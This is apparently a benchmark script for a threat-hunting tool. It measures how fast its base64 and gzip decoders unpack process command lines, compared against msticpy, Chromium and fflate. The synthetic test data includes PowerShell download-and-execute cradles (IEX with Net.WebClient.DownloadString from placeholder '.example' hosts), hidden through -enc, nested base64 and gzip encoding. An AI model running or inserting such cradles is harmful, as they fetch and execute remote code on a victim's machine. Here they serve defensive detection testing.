// Unpacking: a table of command lines against msticpy, and the decoders by
// themselves against Chromium's base64 and fflate's gunzip.
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { gzipSync } from "node:zlib";
import { Random } from "../scripts/samples/random.mjs";
import { compare, counting, inChromium, mb, perSecond, root, work } from "./measure.mjs";

const ROWS = 4000;
const BYTES = 16e6;
const crate = path.join(import.meta.dirname, "decoders");
const built = path.join(work, "decoders");

const base64 = (data) => Buffer.from(data).toString("base64");

/** A command line: every second one holds something, and what it holds differs. */
function commandLine(random, i) {
  const secret = `IEX (New-Object Net.WebClient).DownloadString('http://${random.hex(12)}.example/${random.hex(8)}.ps1')`;
  switch (i % 8) {
    case 0: return `powershell.exe -nop -w hidden -enc ${base64(Buffer.from(secret, "utf16le"))}`;
    case 2: return `cmd.exe /c echo ${base64(secret)} > C:\\Temp\\a.txt`;
    case 4: return `powershell -c "$d='${base64(base64(secret))}';iex $d"`;
    case 6: return `powershell -c "[Convert]::FromBase64String('${base64(gzipSync(secret.repeat(8)))}')"`;
    default: return `"C:\\Program Files\\Vendor\\Product\\bin\\service.exe" --config "C:\\ProgramData\\Vendor\\${random.hex(8)}.json" --session ${random.hex(32)}`;
  }
}

/** Builds the decoders as this project's crate is built. */
function buildDecoders() {
  fs.mkdirSync(built, { recursive: true });
  fs.copyFileSync(path.join(root, "Cargo.lock"), path.join(crate, "Cargo.lock"));
  execFileSync("cargo", ["build", "--quiet", "--release", "--target", "wasm32-unknown-unknown"], { cwd: crate, stdio: ["ignore", "ignore", "inherit"], env: { ...process.env, CARGO_TARGET_DIR: path.join(built, "target") } });
  execFileSync("wasm-bindgen", ["--target", "web", "--out-dir", built, "--out-name", "decoders", path.join(built, "target/wasm32-unknown-unknown/release/decoders.wasm")], { stdio: "inherit" });
  const bound = path.join(built, "decoders_bg.wasm");
  execFileSync(path.join(root, "node_modules/.bin/wasm-opt"), ["-O3", bound, "-o", bound], { stdio: "inherit" });
}

async function decoders() {
  const module = await import(path.join(built, "decoders.js"));
  module.initSync({ module: fs.readFileSync(path.join(built, "decoders_bg.wasm")) });
  return module;
}

const unpacking = (worker) => counting(worker, (hb, table) => hb.unpackBase64(table, { columns: ["CommandLine"] }), (hb, bytes) => hb.read(bytes, { format: "ndjson" }));

export const contenders = {
  huntbook: unpacking(true),
  "huntbook without a worker": unpacking(false),
  gunzip: async (bytes) => {
    const { gunzip } = await decoders();
    return () => gunzip(bytes).length;
  },
  fflate: async (bytes) => {
    const { gunzipSync } = await import("fflate");
    return () => gunzipSync(bytes).length;
  },
};

/** Seconds of each way to decode base64 in Chromium, which has `Uint8Array.fromBase64`: medians of wall time. */
const decodeInChromium = (size) => inChromium({ "/decoders": built }, async (browser, url) => {
  const page = await browser.newPage();
  await page.goto(url);
  return page.evaluate(async ({ size, rounds }) => {
    const { default: init, fromBase64, Held } = await import("/decoders/decoders.js");
    await init();
    const random = new Uint8Array(size).map((_, i) => Math.imul(i, 2654435761) >>> 24);
    const source = random.toBase64();
    const held = new Held(new TextEncoder().encode(source));
    const ways = {
      platform: () => Uint8Array.fromBase64(source).length,
      found: () => held.decode(),
      string: () => fromBase64(source).length,
    };
    const times = Object.fromEntries(Object.keys(ways).map((name) => [name, []]));
    for (let round = 0; round < rounds; round++) {
      for (const [name, way] of Object.entries(ways)) {
        const start = performance.now();
        if (way() !== size) throw new Error(`${name} gives another length`);
        times[name].push((performance.now() - start) / 1000);
      }
    }
    // The first rounds compile.
    const middle = (all) => all.slice(rounds / 3).sort((a, b) => a - b)[rounds / 3];
    return Object.fromEntries(Object.entries(times).map(([name, all]) => [name, { seconds: middle(all) }]));
  }, { size, rounds: 30 });
});

/** Unpacking of a column, rows in, rows out. */
function table(report, hasPython) {
  const random = new Random("unpack");
  const file = path.join(work, "command-lines.ndjson");
  const lines = Array.from({ length: ROWS }, (_, i) => JSON.stringify({ CommandLine: commandLine(random, i) }));
  fs.writeFileSync(file, `${lines.join("\n")}\n`);
  const results = compare("unpack", ["huntbook", "huntbook without a worker"], file, { peers: hasPython ? ["msticpy-unpack"] : [] });
  const rate = ({ seconds }) => `${Math.round(ROWS / seconds).toLocaleString("en")} rows/s`;
  const row = (name, against, goal) => report.add({
    what: `unpacking ${ROWS} command lines, half of them encoded, with hashes`, against, ours: rate(results.huntbook), theirs: rate(results[name]), ratio: results[name].seconds / results.huntbook.seconds, ...goal,
  });
  if (hasPython) row("msticpy-unpack", "msticpy 3.0.2, base64unpack.unpack_df", { atLeast: 100 });
  row("huntbook without a worker", "huntbook without a worker");
}

export async function run(report, { hasPython }) {
  table(report, hasPython);
  buildDecoders();
  const random = new Random("decoders");
  const decoded = await decodeInChromium(BYTES);
  const size = Math.ceil(BYTES / 3) * 4;
  const base64Row = (name, what, goal) => report.add({
    what: `${what}, ${mb(size)}, in Chromium, wall time`, against: "Uint8Array.fromBase64", ours: perSecond(size, decoded[name]), theirs: perSecond(size, decoded.platform), ratio: decoded.platform.seconds / decoded[name].seconds, ...goal,
  });
  base64Row("found", "base64 of a text that was found", { atLeast: 1 });
  base64Row("string", "base64 of a string to an array");

  const zipped = path.join(work, "log.gz");
  const log = Array.from({ length: BYTES / 160 }, (_, i) => commandLine(random, i)).join("\n");
  fs.writeFileSync(zipped, gzipSync(log));
  const inflated = compare("unpack", ["gunzip", "fflate"], zipped);
  report.add({
    what: `gunzip of a log of ${mb(log.length)}`, against: "fflate 0.8", ours: perSecond(log.length, inflated.gunzip), theirs: perSecond(log.length, inflated.fflate), ratio: inflated.fflate.seconds / inflated.gunzip.seconds, atLeast: 2,
  });
}
